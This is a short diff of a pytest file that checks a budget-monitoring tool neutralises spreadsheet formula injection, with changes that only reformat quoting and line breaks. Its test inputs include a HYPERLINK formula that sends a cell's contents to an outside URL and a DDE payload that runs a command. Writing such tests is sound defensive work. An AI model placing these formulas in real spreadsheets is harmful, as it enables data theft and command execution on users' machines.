@@ -16,7 +16,7 @@ from budget_monitor.textsafe import MAX_CELL_CHARS, XLSXWRITER_OPTIONS, cell_tex
 @pytest.mark.parametrize(
     "text",
     [
-        "=HYPERLINK(\"http://example.com/?\"&A1, \"Click\")",
+        '=HYPERLINK("http://example.com/?"&A1, "Click")',
         "=cmd|' /C calc'!A0",
         "+44 1622 000000",
         "-£1,234 overspend",
@@ -33,7 +33,9 @@ def test_formula_starts_are_neutralised(text):
     assert safe.endswith(text)  # the same words, only a quote in front
 
 
-@pytest.mark.parametrize("text", ["", "Legal costs", "Residential care (older people)", "'=already quoted", "a=b", "1-2"])
+@pytest.mark.parametrize(
+    "text", ["", "Legal costs", "Residential care (older people)", "'=already quoted", "a=b", "1-2"]
+)
 def test_other_text_is_unchanged(text):
     assert neutralise(text) == (text, False)
     assert safe_text(text) == text
